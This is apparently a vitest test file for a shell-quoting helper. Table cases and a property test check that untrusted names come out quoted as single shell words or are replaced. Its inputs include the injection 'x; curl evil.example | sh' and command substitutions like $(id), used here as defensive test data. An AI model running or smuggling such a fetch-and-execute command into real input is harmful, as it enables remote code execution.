import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { shellWord } from '../../../src/message/words/shell-word.ts';

describe('a word to paste', () => {
  test.each([
    ['get_forecast', 'get_forecast'],
    ['cursor/files', 'cursor/files'],
    ['my files', "'my files'"],
    ['x; curl evil.example | sh', "'x; curl evil.example | sh'"],
    ["it's $(id) `id`", "'it'\\''s $(id) `id`'"],
    ['--all', 'TOOL'],
    ['-y', 'TOOL'],
    ['', 'TOOL'],
    ['two\nlines', 'TOOL'],
    ['\u001b[31mred', 'TOOL'],
    ['reversed\u202egnp', 'TOOL'],
    ['no\u200bwidth', 'TOOL'],
    ['x'.repeat(300), 'x'.repeat(300)],
    [`${'x'.repeat(300)} y`, 'TOOL'],
    ['Größe', "'Größe'"],
  ])('%j', (name, word) => {
    expect(shellWord(name, 'TOOL')).toBe(word);
  });

  test('a shell reads it as one word, which is the name, and never as an option', () => {
    const names = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.string({ unit: fc.constantFrom(...`a-'"$\`;|&<>(){}*?#~! \\`) }),
    );
    fc.assert(
      fc.property(fc.array(names, { minLength: 40, maxLength: 40 }), (several) => {
        const words = several.map((name) => shellWord(name, 'TOOL'));
        const out = execFileSync('sh', ['-c', `printf '%s\\0' ${words.join(' ')}`], { encoding: 'utf8' });
        const read = out.split('\0').slice(0, -1);
        expect(read).toEqual(several.map((name, at) => (words[at] === 'TOOL' ? 'TOOL' : name)));
        expect(read.filter((word) => word.startsWith('-'))).toEqual([]);
      }),
      { numRuns: 20 },
    );
  });
});
